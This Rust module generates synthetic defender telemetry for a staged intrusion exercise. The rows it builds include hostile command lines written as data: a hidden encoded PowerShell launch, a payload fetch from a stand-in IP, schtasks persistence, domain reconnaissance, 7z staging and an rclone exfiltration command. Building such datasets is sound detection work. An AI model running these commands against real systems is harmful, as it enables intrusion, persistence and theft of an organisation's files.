//! Stages 3 to 5: the invoice, the macro, encoded PowerShell and the implant on wks-014
//! (persistence, reconnaissance, beaconing), lateral movement to srv-fs01, and exfiltration from
//! srv-fs01 and from SharePoint.

use serde_json::json;

use super::super::org::{Org, SHAREPOINT, User};
use super::super::rows::{self, FileEvent, Logon, Mail, O365, Proc};
use super::super::{Gen, MINUTE, Rng, SECOND, dt, dy, int, long, s};
use super::{
    ATTACKER_IP, ATTACKER_UA, C2_DOMAIN, C2_IP, DROP_DIR, DROPPED_BINARY, ENCODED, EXFIL,
    EXFIL_DOMAIN, EXFIL_IP, INVOICE, LATERAL, MACRO, MASS_DOWNLOAD, RDP, RUN_KEY, SERVER, STAGING,
    TASK_NAME, VICTIM, VICTIM_HOST, VICTIM_UPN, ago, dns_lookup,
};

/// Writes stages 3 to 5; `cluster` is the phishing mails' cluster (the invoice's is the next).
/// Returns the encoded PowerShell command line, which an alert names.
pub(super) fn write(
    g: &mut Gen,
    org: &Org,
    rng: &mut Rng,
    at: impl Fn(i64) -> i64,
    cluster: i64,
) -> String {
    let victim = org.user(VICTIM);
    let wks = org.device(VICTIM_HOST);
    let fs = org.device(SERVER);
    let dc = org.device("srv-dc01");

    // Stage 3: the invoice, the macro, encoded PowerShell and a dropped binary on wks-014.
    let invoice_id = rng.guid_string();
    let invoice_internet = format!("<{}@fabrikam-billing.example>", rng.hex(16));
    rows::mail(
        g,
        Mail {
            time: at(INVOICE),
            network_id: &invoice_id,
            internet_id: &invoice_internet,
            from: "accounts@fabrikam-billing.example",
            from_name: "Fabrikam Accounts Receivable",
            sender_ip: C2_IP,
            to: (VICTIM_UPN, &victim.object_id),
            subject: "RE: Overdue remittance - invoice 4471",
            cluster: cluster + 1,
            direction: "Inbound",
            delivery: ("Delivered", "Inbox/folder"),
            threats: "",
            detection: "",
            confidence: "",
            bcl: 0,
            attachments: &[("Invoice_4471.docm", 48_213)],
            urls: &[],
            auth: "{\"SPF\":\"pass\",\"DKIM\":\"pass\",\"DMARC\":\"pass\",\"CompAuth\":\"pass\"}",
        },
    );
    let explorer = Proc {
        file: "explorer.exe",
        folder: "c:\\windows\\explorer.exe",
        command_line: "C:\\WINDOWS\\Explorer.EXE",
        pid: 5120,
        parent: "userinit.exe",
        account: Some(victim),
    };
    let outlook = Proc {
        file: "OUTLOOK.EXE",
        folder: "c:\\program files\\microsoft office\\root\\office16\\outlook.exe",
        command_line: "\"OUTLOOK.EXE\" ",
        pid: 8812,
        parent: "explorer.exe",
        account: Some(victim),
    };
    let winword = Proc {
        file: "WINWORD.EXE",
        folder: "c:\\program files\\microsoft office\\root\\office16\\winword.exe",
        command_line: "\"WINWORD.EXE\" /n \"C:\\Users\\mbrown\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RZ1K2M\\Invoice_4471.docm\" /o \"\"",
        pid: 10_344,
        parent: "OUTLOOK.EXE",
        account: Some(victim),
    };
    let encoded = format!("powershell.exe -nop -w hidden -enc {ENCODED}");
    let powershell = Proc {
        file: "powershell.exe",
        folder: "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe",
        command_line: &encoded,
        pid: 11_208,
        parent: "WINWORD.EXE",
        account: Some(victim),
    };
    let dropped_cmd = format!("\"{DROP_DIR}\\{DROPPED_BINARY}\" /svc");
    let implant = Proc {
        file: DROPPED_BINARY,
        folder: "c:\\programdata\\microsoft\\winupdate\\wuauhelper.exe",
        command_line: &dropped_cmd,
        pid: 11_876,
        parent: "powershell.exe",
        account: Some(victim),
    };
    rows::process_created(g, wks, at(MACRO) - 2 * MINUTE, &explorer, &outlook);
    rows::file_event(
        g,
        wks,
        &outlook,
        FileEvent {
            time: at(MACRO) - 30 * SECOND,
            action: "FileCreated",
            name: "Invoice_4471.docm",
            folder: "C:\\Users\\mbrown\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7RZ1K2M",
            size: 48_213,
            origin_url: "",
            remote: None,
        },
    );
    rows::process_created(g, wks, at(MACRO), &outlook, &winword);
    rows::image_load(
        g,
        wks,
        at(MACRO) + 20 * SECOND,
        &winword,
        "VBE7.DLL",
        "C:\\Program Files\\Common Files\\microsoft shared\\VBA\\VBA7.1",
    );
    rows::process_created(g, wks, at(MACRO) + MINUTE, &winword, &powershell);
    rows::device_event(
        g,
        wks,
        at(MACRO) + MINUTE,
        &winword,
        "AsrOfficeChildProcessAudited",
        [
            ("FileName", s("powershell.exe")),
            (
                "FolderPath",
                s("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
            ),
            ("ProcessCommandLine", s(&encoded)),
            ("ProcessId", long(powershell.pid)),
            (
                "AdditionalFields",
                dy(json!({"IsAudit": true, "RuleId": "d4f940ab-401b-4efc-aadc-ad5f3c50688a"})),
            ),
        ],
    );
    for (dll, folder) in [
        (
            "System.Management.Automation.ni.dll",
            "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#",
        ),
        ("amsi.dll", "C:\\Windows\\System32"),
    ] {
        rows::image_load(
            g,
            wks,
            at(MACRO) + MINUTE + 2 * SECOND,
            &powershell,
            dll,
            folder,
        );
    }
    rows::device_event(
        g,
        wks,
        at(MACRO) + MINUTE + 3 * SECOND,
        &powershell,
        "PowerShellCommand",
        [("AdditionalFields", dy(json!({"Command": "IEX"})))],
    );
    rows::device_event(
        g,
        wks,
        at(MACRO) + MINUTE + 3 * SECOND,
        &powershell,
        "PowerShellCommand",
        [(
            "AdditionalFields",
            dy(json!({"Command": "Invoke-WebRequest"})),
        )],
    );
    rows::connection(
        g,
        wks,
        at(MACRO) + MINUTE + 4 * SECOND,
        &powershell,
        "ConnectionSuccess",
        (C2_IP, 80, "http://203.0.113.88/update.ps1"),
        51_544,
    );
    dns_lookup(
        g,
        rng,
        at(MACRO) + MINUTE + 3 * SECOND,
        &wks.ip,
        C2_DOMAIN,
        C2_IP,
    );
    rows::file_event(
        g,
        wks,
        &powershell,
        FileEvent {
            time: at(MACRO) + 2 * MINUTE,
            action: "FileCreated",
            name: DROPPED_BINARY,
            folder: DROP_DIR,
            size: 1_482_752,
            origin_url: "http://203.0.113.88/wuauhelper.bin",
            remote: None,
        },
    );
    rows::process_created(g, wks, at(MACRO) + 3 * MINUTE, &powershell, &implant);
    // Persistence: a Run key and a scheduled task.
    let implant_path = format!("{DROP_DIR}\\{DROPPED_BINARY} /svc");
    rows::registry_event(
        g,
        wks,
        at(MACRO) + 3 * MINUTE + 20 * SECOND,
        &implant,
        "RegistryValueSet",
        (
            &format!("HKEY_CURRENT_USER\\{}\\{RUN_KEY}", victim.sid),
            "WinUpdateHelper",
            "String",
            &implant_path,
        ),
    );
    let schtasks_cmd = format!(
        "schtasks.exe /create /tn \"Microsoft\\Windows\\WinUpdateHelper\" /tr \"{DROP_DIR}\\{DROPPED_BINARY} /svc\" /sc onlogon /ru mbrown /f"
    );
    let recon: [(&str, &str, String); 6] = [
        (
            "schtasks.exe",
            "c:\\windows\\system32\\schtasks.exe",
            schtasks_cmd,
        ),
        (
            "whoami.exe",
            "c:\\windows\\system32\\whoami.exe",
            "whoami.exe /all".into(),
        ),
        (
            "net.exe",
            "c:\\windows\\system32\\net.exe",
            "net.exe group \"Domain Admins\" /domain".into(),
        ),
        (
            "nltest.exe",
            "c:\\windows\\system32\\nltest.exe",
            "nltest.exe /dclist:contoso.com".into(),
        ),
        (
            "net.exe",
            "c:\\windows\\system32\\net.exe",
            "net.exe view \\\\srv-fs01.contoso.com".into(),
        ),
        // Which servers has the victim used Remote Desktop to?
        (
            "reg.exe",
            "c:\\windows\\system32\\reg.exe",
            "reg query \"HKEY_CURRENT_USER\\Software\\Microsoft\\Terminal Server Client\\Default\""
                .into(),
        ),
    ];
    for (k, (file, folder, cmd)) in recon.iter().enumerate() {
        let child = Proc {
            file,
            folder,
            command_line: cmd,
            pid: 12_000 + k as i64 * 44,
            parent: DROPPED_BINARY,
            account: Some(victim),
        };
        let time = at(MACRO) + (4 + 6 * k as i64) * MINUTE;
        rows::process_created(g, wks, time, &implant, &child);
        match k {
            0 => {
                let task_xml = format!(
                    "<Task><Triggers><LogonTrigger/></Triggers><Actions><Exec><Command>{DROP_DIR}\\{DROPPED_BINARY}</Command><Arguments>/svc</Arguments></Exec></Actions></Task>"
                );
                rows::device_event(
                    g,
                    wks,
                    time + 2 * SECOND,
                    &child,
                    "ScheduledTaskCreated",
                    [(
                        "AdditionalFields",
                        dy(json!({"TaskName": TASK_NAME, "TaskContent": task_xml})),
                    )],
                );
                rows::security_event(
                    g,
                    wks,
                    time + 2 * SECOND,
                    4698,
                    [
                        ("Account", s(format!("CONTOSO\\{VICTIM}"))),
                        ("AccountType", s("User")),
                        ("SubjectUserName", s(VICTIM)),
                        ("SubjectDomainName", s("CONTOSO")),
                        ("SubjectUserSid", s(&victim.sid)),
                        ("SubjectLogonId", s("0x5a3f21")),
                        (
                            "EventData",
                            s(format!(
                                "<EventData><Data Name=\"TaskName\">{TASK_NAME}</Data><Data Name=\"TaskContent\">{}</Data></EventData>",
                                task_xml.replace('<', "&lt;").replace('>', "&gt;")
                            )),
                        ),
                    ],
                );
            }
            2 => {
                identity_query(
                    g,
                    victim,
                    wks,
                    time + 5 * SECOND,
                    ("SAMR query", "QueryGroup", "Domain Admins", "Samr", ""),
                );
                rows::image_load(g, wks, time, &child, "samlib.dll", "C:\\Windows\\System32");
            }
            3 => {
                identity_query(
                    g,
                    victim,
                    wks,
                    time + 5 * SECOND,
                    (
                        "DNS query",
                        "Srv",
                        "_ldap._tcp.dc._msdcs.contoso.com",
                        "Dns",
                        "",
                    ),
                );
                identity_query(
                    g,
                    victim,
                    wks,
                    time + 9 * SECOND,
                    (
                        "LDAP query",
                        "AllDomainControllers",
                        "contoso.com",
                        "Ldap",
                        "(&(objectCategory=computer)(userAccountControl:1.2.840.113556.1.4.803:=8192))",
                    ),
                );
            }
            _ => {}
        }
    }
    let mut beacon = at(MACRO) + 5 * MINUTE;
    while beacon < at(LATERAL) {
        rows::connection(
            g,
            wks,
            beacon,
            &implant,
            "ConnectionSuccess",
            (C2_IP, 443, C2_DOMAIN),
            rng.range(50_000, 60_000) as i32,
        );
        beacon += 10 * MINUTE + rng.range(0, 60) * SECOND;
    }

    // Stage 4: lateral movement to srv-fs01 with the victim's account.
    let system = rows::SYSTEM;
    rows::connection(
        g,
        wks,
        at(LATERAL) - 10 * SECOND,
        &implant,
        "ConnectionSuccess",
        (&fs.ip, 445, ""),
        52_101,
    );
    rows::logon(
        g,
        fs,
        Logon {
            time: at(LATERAL),
            user: Some(victim),
            logon_type: "Network",
            success: true,
            protocol: "NTLM",
            remote: Some(wks),
        },
    );
    let kernel = Proc {
        file: "System",
        folder: "",
        command_line: "",
        pid: 4,
        parent: "",
        account: None,
    };
    rows::file_event(
        g,
        fs,
        &kernel,
        FileEvent {
            time: at(LATERAL) + 30 * SECOND,
            action: "FileCreated",
            name: DROPPED_BINARY,
            folder: DROP_DIR,
            size: 1_482_752,
            origin_url: "",
            remote: Some((victim, &wks.ip)),
        },
    );
    g.push(
        "IdentityDirectoryEvents",
        [
            ("Timestamp", dt(at(LATERAL) + 31 * SECOND)),
            ("ActionType", s("SMB file copy")),
            ("Application", s("Active Directory")),
            ("TargetDeviceName", s(&fs.fqdn)),
            ("DestinationDeviceName", s(&fs.fqdn)),
            ("DestinationIPAddress", s(&fs.ip)),
            ("DestinationPort", int(445)),
            ("Protocol", s("Smb")),
            ("AccountName", s(VICTIM)),
            ("AccountDomain", s(super::super::org::DOMAIN)),
            ("AccountUpn", s(VICTIM_UPN)),
            ("AccountSid", s(&victim.sid)),
            ("AccountObjectId", s(&victim.object_id)),
            ("AccountDisplayName", s(&victim.display_name)),
            ("DeviceName", s(&wks.fqdn)),
            ("IPAddress", s(&wks.ip)),
            ("Port", int(52_101)),
            ("ReportId", s(rng.guid_string())),
            (
                "AdditionalFields",
                dy(json!({"FileName": DROPPED_BINARY, "FilePath": "ProgramData\\Microsoft\\WinUpdate",
                          "Count": "1", "FileOperation": "Write", "SourceComputerOperatingSystemType": "windows"})),
            ),
        ],
    );
    rows::logon(
        g,
        dc,
        Logon {
            time: at(ago(47, 0)),
            user: Some(victim),
            logon_type: "Network",
            success: false,
            protocol: "NTLM",
            remote: Some(wks),
        },
    );
    let mstsc = Proc {
        file: "mstsc.exe",
        folder: "c:\\windows\\system32\\mstsc.exe",
        command_line: "mstsc.exe /v:srv-fs01.contoso.com",
        pid: 13_420,
        parent: DROPPED_BINARY,
        account: Some(victim),
    };
    rows::process_created(g, wks, at(RDP) - 20 * SECOND, &implant, &mstsc);
    rows::connection(
        g,
        wks,
        at(RDP) - 15 * SECOND,
        &mstsc,
        "ConnectionSuccess",
        (&fs.ip, 3389, ""),
        52_377,
    );
    let svchost = Proc {
        file: "svchost.exe",
        folder: "c:\\windows\\system32\\svchost.exe",
        command_line: "svchost.exe -k termsvcs -s TermService",
        pid: 1_304,
        parent: "services.exe",
        account: None,
    };
    rows::connection(
        g,
        fs,
        at(RDP) - 14 * SECOND,
        &svchost,
        "InboundConnectionAccepted",
        (&wks.ip, 52_377, ""),
        3389,
    );
    rows::logon(
        g,
        fs,
        Logon {
            time: at(RDP),
            user: Some(victim),
            logon_type: "RemoteInteractive",
            success: true,
            protocol: "Negotiate",
            remote: Some(wks),
        },
    );
    let fs_explorer = Proc {
        pid: 7_716,
        ..explorer
    };
    let fs_implant = Proc {
        pid: 8_020,
        parent: "explorer.exe",
        ..implant
    };
    rows::process_created(g, fs, at(ago(46, 45)), &fs_explorer, &fs_implant);
    rows::process_created(
        g,
        fs,
        at(ago(46, 40)),
        &system,
        &Proc {
            file: "svchost.exe",
            ..svchost
        },
    );

    // Stage 5: exfiltration from srv-fs01 and from SharePoint.
    let seven_cmd = "7z.exe a -pInv0ice4471 -mhe=on C:\\ProgramData\\Microsoft\\WinUpdate\\fin.7z D:\\Shares\\Finance\\*";
    let seven = Proc {
        file: "7z.exe",
        folder: "c:\\program files\\7-zip\\7z.exe",
        command_line: seven_cmd,
        pid: 9_100,
        parent: DROPPED_BINARY,
        account: Some(victim),
    };
    rows::process_created(g, fs, at(STAGING), &fs_implant, &seven);
    rows::file_event(
        g,
        fs,
        &seven,
        FileEvent {
            time: at(ago(26, 3)),
            action: "FileCreated",
            name: "fin.7z",
            folder: DROP_DIR,
            size: 2_415_919_104,
            origin_url: "",
            remote: None,
        },
    );
    let rclone_cmd = "rclone.exe copy C:\\ProgramData\\Microsoft\\WinUpdate\\fin.7z s3:backup-2026 --transfers 8 --no-check-certificate";
    let rclone = Proc {
        file: "rclone.exe",
        folder: "c:\\programdata\\microsoft\\winupdate\\rclone.exe",
        command_line: rclone_cmd,
        pid: 9_388,
        parent: DROPPED_BINARY,
        account: Some(victim),
    };
    rows::process_created(g, fs, at(EXFIL), &fs_implant, &rclone);
    dns_lookup(
        g,
        rng,
        at(EXFIL) + 5 * SECOND,
        &fs.ip,
        EXFIL_DOMAIN,
        EXFIL_IP,
    );
    for k in 0..8 {
        let start = at(EXFIL) + 10 * SECOND + k * 5 * MINUTE;
        let port = 53_000 + k as i32;
        rows::connection(
            g,
            fs,
            start,
            &rclone,
            "ConnectionSuccess",
            (EXFIL_IP, 443, EXFIL_DOMAIN),
            port,
        );
        let sent = 301_989_888 + rng.range(0, 1_000_000);
        g.push(
            "CommonSecurityLog",
            rows::firewall_row(
                start + 5 * MINUTE,
                (&fs.ip, port),
                (EXFIL_IP, 443),
                "ssl",
                (sent, rng.range(200_000, 400_000)),
                "contoso\\mbrown",
            ),
        );
    }
    let site = format!("{SHAREPOINT}/sites/Finance/");
    for k in 0..160 {
        let name = format!(
            "{}-{:03}.xlsx",
            ["Payroll", "Forecast", "Vendors", "Budget"][k % 4],
            k
        );
        rows::office_activity(
            g,
            rng,
            O365 {
                time: at(MASS_DOWNLOAD) + k as i64 * 7 * SECOND,
                user: victim.into(),
                operation: "FileDownloaded",
                workload: "SharePoint",
                record_type: "SharePointFileOperation",
                ip: ATTACKER_IP,
                user_agent: ATTACKER_UA,
                site: &site,
                file: &name,
                parameters: serde_json::Value::Null,
                extra: Vec::new(),
            },
        );
    }
    encoded
}

/// One Defender for Identity query event from the victim's workstation to the domain controller.
fn identity_query(
    g: &mut Gen,
    victim: &User,
    wks: &super::super::org::Device,
    time: i64,
    (action, query_type, target, protocol, query): (&str, &str, &str, &str, &str),
) {
    g.push(
        "IdentityQueryEvents",
        [
            ("Timestamp", dt(time)),
            ("ActionType", s(action)),
            ("Application", s("Active Directory")),
            ("QueryType", s(query_type)),
            ("QueryTarget", s(target)),
            ("Query", s(query)),
            ("Protocol", s(protocol)),
            ("AccountName", s(VICTIM)),
            ("AccountDomain", s(super::super::org::DOMAIN)),
            ("AccountUpn", s(VICTIM_UPN)),
            ("AccountSid", s(&victim.sid)),
            ("AccountObjectId", s(&victim.object_id)),
            ("AccountDisplayName", s(&victim.display_name)),
            ("DeviceName", s(&wks.fqdn)),
            ("IPAddress", s(&wks.ip)),
            ("Port", int(53_211)),
            ("DestinationDeviceName", s("srv-dc01.contoso.com")),
            ("DestinationIPAddress", s("10.20.0.10")),
            (
                "DestinationPort",
                int(match protocol {
                    "Dns" => 53,
                    "Ldap" => 389,
                    _ => 445,
                }),
            ),
            ("TargetDeviceName", s("srv-dc01.contoso.com")),
            ("ReportId", s(format!("{time}-{action}"))),
            (
                "AdditionalFields",
                dy(json!({"Count": "1", "SourceComputerOperatingSystemType": "windows"})),
            ),
        ],
    );
}
